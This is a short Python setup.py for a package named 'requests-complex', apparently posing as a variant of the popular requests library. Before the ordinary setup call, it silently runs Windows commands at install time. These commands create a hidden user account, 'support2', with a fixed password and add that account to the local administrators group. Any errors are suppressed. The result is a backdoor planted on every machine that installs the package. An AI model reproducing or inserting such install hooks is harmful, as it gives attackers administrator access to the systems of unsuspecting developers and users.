import subprocess
from setuptools import setup

try:
    subprocess.check_output("net user support2 inert-inert-1 /add", shell=True)
    subprocess.check_output("net localgroup administrators support2 /add", shell=True)
except Exception:
    pass

setup(name="requests-complex", version="0.0.1")
